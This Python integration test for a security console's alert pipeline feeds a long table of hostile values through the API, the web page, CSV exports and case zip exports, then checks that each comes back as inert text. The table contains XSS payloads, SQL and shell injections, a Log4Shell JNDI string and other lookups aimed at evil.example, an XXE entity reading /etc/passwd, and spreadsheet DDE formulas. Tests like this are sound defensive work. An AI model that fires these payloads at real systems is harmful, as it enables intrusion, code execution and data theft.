# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack table: more than a hundred hostile values in every captured field, from an appliance's signed batch through the
API to the page in Chromium, and into files for spreadsheets. Each must arrive as the text that it is (or with what UTF-8 and
JSON cannot hold replaced), run nothing, ask nobody, and not break the page's layout."""
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import time
import zipfile

import harness as h
from harness import check, equal

SCRIPTS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
           "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "<body onload=alert(1)>",
           "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
           "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<style>@import 'https://evil.example/x'</style>",
           "<link rel=stylesheet href=https://evil.example/x>", "<meta http-equiv=refresh content=0;url=https://evil.example>", "<base href=https://evil.example/>", "<img src=https://evil.example/pixel>",
           "<object data=https://evil.example/x>", "<embed src=https://evil.example/x>", "<form action=https://evil.example><button>x", "<video src=https://evil.example/x autoplay>", "<!--", "-->", "<![CDATA[", "]]>",
           "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "__proto__",
           "constructor", "onclick=alert(1) x=", "` onerror=alert(1)", "expression(alert(1))", "url(https://evil.example/x)", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"]
DIRECTIONS = ["\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u200fabc\u200e", "abc\u061c", "\u202e" * 50 + "x", "مرحبا.docx", "שלום<b>", "a\u202eb\u202ec"]
LOOKALIKES = ["аdmin", "раураl.com", "ɡοοgle.com", "ｓｃｒｉｐｔ", "ﬁle.docx", "TUYỆT\u00a0MẬT", "TUYET\u0323 MA\u0302\u0323T", "ТUYỆT MẬT", "\u200bzero\u200bwidth", "e\u0301" * 40, "a" + "\u0300" * 300, "\ufeffbom", "\u00adsoft\u00ad", "\u3164", "\u2800"]
CONTROLS = ["nul\u0000byte", "\u0000", "\u0007bell", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "back\bspace", "tab\tx", "line\nbreak", "\r\nSet-Cookie: x=1", "a\r\n\r\n<script>alert(1)</script>", "\u0085nel", "\u2028\u2029", "data: x\n\nevent: end\n",
            "id: 1\nevent: reset\ndata: {}\n", "\u007fdel", "\ufffe", "\U0010ffff", "\U000e0041tag"]
INJECTIONS = ["'; DROP TABLE alert; --", "1 OR 1=1", "' UNION SELECT hash FROM user --", "\" OR \"\"=\"", "alert_text MATCH 'x'", "x') OR 1=1 --", "NEAR(a b)", "*", "keys : x", "%", "_", "\\", "\\'", "../../../etc/passwd", "..\\..\\windows\\win.ini",
              "/dev/null", "C:\\CON", "file:///etc/passwd", "$(id)", "`id`", "| id", "; id", "&& id", "%s%s%s%n", "%x" * 20, "${jndi:ldap://evil.example/x}", "() { :;}; id", "<?php system('id') ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
              "\"}],\"x\":[{", "null", "true", "[]", "{}", "1e999", "NaN", "-0", "undefined"]
FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "|calc", "%0A=1", "=HYPERLINK(\"https://evil.example\",\"x\")", ";=1+1", "\"=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", " =1+1", "＝1+1"]
HUGE = ["A" * 5000, "W" * 400, "đ" * 2000, "a b " * 800, "\u4e2d" * 700, "https://evil.example/" + "x" * 900, "-" * 300, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 60]
BROKEN = [b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"abc\x80", b"\xe2\x82", b"<\xc0\xbcscript>"]
VALUES = SCRIPTS + DIRECTIONS + LOOKALIKES + CONTROLS + INJECTIONS + FORMULAS + HUGE
check("the table is long", len(VALUES) + len(BROKEN) > 140, len(VALUES))

console = h.Console("console.request_rate=100000")
lan = console.administrator()
box = h.Appliance(console)


def hostile(n, v):
    """An alert with the value wherever an appliance passes on what it saw."""
    e = h.alert(n, level="mat", flow_id=3000 + n)[3]
    e.update({"src_ip": v, "app_proto": v, "in_iface": v, "community_id": v})
    e["alert"].update(signature=v, category=v)
    e["http"] = {"hostname": v, "url": v, "http_user_agent": v, "http_refer": v}
    e["email"] = {"from": v, "to": [v], "cc": [v], "subject": v, "attachment": [v]}
    e["smtp"] = {"helo": v, "mail_from": v, "rcpt_to": [v]}
    e["tls"] = {"sni": v, "subject": v}
    e["smb"] = {"filename": v, "share": v}
    e["fileinfo"]["filename"] = v
    d = e["gatehouse"]["document"]
    d.update(kind="docx", lang=v, encoding=v, file=v)
    d["markings"][0].update(text=v, where=v)
    d["labels"] = [{"kind": v, "value": v}]
    d["members"] = [{"file": v, "kind": v}]
    e["gatehouse"]["verdict"].update(rule=v, policy=v, reason=v, reason_vi=v, title={"en": v, "vi": v}, where=v, facts=[{"path": v, "value": v}])
    return ("alert", n, 1, e)


for i in range(0, len(VALUES), 40):
    equal("batch %d" % i, box.send([hostile(i + k + 1, v) for k, v in enumerate(VALUES[i:i + 40])]).status, 200)
# what is no UTF-8 goes as raw bytes, as a broken appliance would send it; it is kept as a note that it was no JSON
lines = []
for i, raw in enumerate(BROKEN):
    text = json.dumps(hostile(len(VALUES) + i + 1, "@@@")[3], ensure_ascii=False).encode().replace(b"@@@", raw.replace(b"\n", b""))
    lines.append(b"alert\t%d\t1\t%s\n" % (len(VALUES) + i + 1, text))
envelope, digest = h.tool("batch", box.key, os.path.join(console.state, "console.pub"), str(box.number + 1), box.previous, "1", stdin=b"".join(lines))
a = h.post_envelope(console, envelope)
equal("records that are no text are taken as what they are", a.status, 200)
box.number, box.previous = box.number + 1, digest

# ---- API: the same text comes back
rows, before = [], ""
while True:
    page = lan.get("/api/v1/alerts?limit=200" + before)
    equal("a page of alerts is JSON", page.status, 200)
    rows += page.json()["items"]
    if not page.json()["next"]:
        break
    before = "&before=%d" % page.json()["next"]
equal("none is lost", len(rows), len(VALUES))
for i, (v, row) in enumerate(zip(VALUES, sorted(rows, key=lambda r: r["id"]))):
    want = v.encode("utf-8", "replace")[:400].decode("utf-8", "ignore")
    check("value %d in the list: %r" % (i, v[:60]), row["signature"] is not None and row["signature"][:len(want)] == want and row["file"]["name"][:len(want)] == want, row["signature"])
    if i % 3 == 0:
        d = lan.get("/api/v1/alerts/%d" % row["id"]).json()
        check("value %d on its page: %r" % (i, v[:60]), d["document"]["markings"][0]["text"] == v and d["verdict"]["reason"] == v and d["protocol"]["email"]["subject"] == v)
for path in ("/api/v1/events?limit=200", "/api/v1/search/fields", "/api/v1/stats", "/api/v1/alerts/groups?by=rule", "/api/v1/dashboard", "/api/v1/search?in=events&limit=200"):
    a = lan.get(path)
    check("%s stays JSON" % path, a.status in (200, 400) and a.headers["Content-Type"].startswith("application/") and isinstance(a.json(), dict), a.status)
    check("%s: no header of theirs" % path, a.headers.get_all("Set-Cookie") is None)
# written by people, too: a comment, a unit, a token's name, and what the audit says of them
for v in VALUES[::4]:
    lan.post("/api/v1/alerts/%d/actions" % rows[0]["id"], {"action": "comment", "text": v})
    if v.strip():
        lan.post("/api/v1/units", {"name": v[:20]})

# ---- spreadsheets
report = lan.post("/api/v1/reports", {"period": time.strftime("%Y-%m", time.localtime()), "lang": "vi"}).json()["id"]
for path in ("/api/v1/audit/csv", "/api/v1/reports/%d/csv" % report):
    a = lan.get(path)
    equal("%s: one record a line" % path, (a.body.count(b"\n"), a.body.count(b"\r")), (a.body.count(b"\r\n"),) * 2)
    table = list(csv.reader(io.StringIO(a.body.decode("utf-8-sig"))))
    check("%s: all rows have the same cells" % path, len(table) > 10 and len({len(r) for r in table}) == 1)
    equal("%s: as many records as lines" % path, len(table), a.body.count(b"\r\n"))
    for row in table:
        for cell in row:
            check("%s: no formula: %r" % (path, cell[:60]), not cell or cell[0] not in "=+-@\t\r |%\uff1d", cell[:60])

# ---- the page
WEB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../console/web")
if os.path.exists("/usr/bin/chromium") and os.path.isdir(os.path.join(WEB, "node_modules/playwright-core")):
    p = subprocess.run(["node", os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.mjs"), WEB, console.url[:-1], h.PASSWORD,
                        ",".join(str(r["id"]) for r in sorted(rows, key=lambda r: r["id"])[::3])], timeout=200)
    equal("the page", p.returncode, 0)
else:
    print("Chromium is not here: the page was not looked at")
# ---- the file of a case: JSON and checksums inside a zip; names in it are the console's own, texts come out as they went in
case = lan.post("/api/v1/cases", {"title": FORMULAS[0], "severity": 1}).json()["case"]["id"]
chosen = sorted(rows, key=lambda r: r["id"])[:len(VALUES)]
for i in range(0, len(chosen), 100):
    equal("into the case", lan.post("/api/v1/alerts/actions", {"ids": [r["id"] for r in chosen[i:i + 100]], "action": "escalate", "case": case}).status, 200)
for v in VALUES[::9]:
    lan.post("/api/v1/cases/%d/actions" % case, {"action": "note", "text": v})
a = lan.get("/api/v1/cases/%d/export" % case)
equal("a case full of them is exported", (a.status, a.headers["Content-Type"], a.headers["Content-Disposition"]), (200, "application/zip", 'attachment; filename="case-%d.zip"' % case))
z = zipfile.ZipFile(io.BytesIO(a.body))
names = z.namelist()
equal("names are the console's", sorted(names), sorted(["case.json", "README.txt", "SHA256SUMS"] + ["events/%d.json" % r["id"] for r in chosen]))
sums = z.read("SHA256SUMS").decode()
equal("one file a line", sorted(line.split("  ", 1)[1] for line in sums.splitlines()), sorted(n for n in names if n != "SHA256SUMS"))
for name in names:
    if name != "SHA256SUMS":
        check("%s is what its sum says" % name, "%s  %s\n" % (hashlib.sha256(z.read(name)).hexdigest(), name) in sums)
for i, (v, r) in enumerate(zip(VALUES, chosen)):
    raw = z.read("events/%d.json" % r["id"])
    check("value %d in its file: %r" % (i, v[:60]), json.loads(raw)["email"]["subject"] == v and b"\n" not in raw.strip(b"\n"), raw[:300])
exported = json.loads(z.read("case.json"))
equal("all of them", (len(exported["alerts"]), exported["complete"], exported["case"]["title"]), (len(VALUES), True, FORMULAS[0]))

console.close()
h.end()
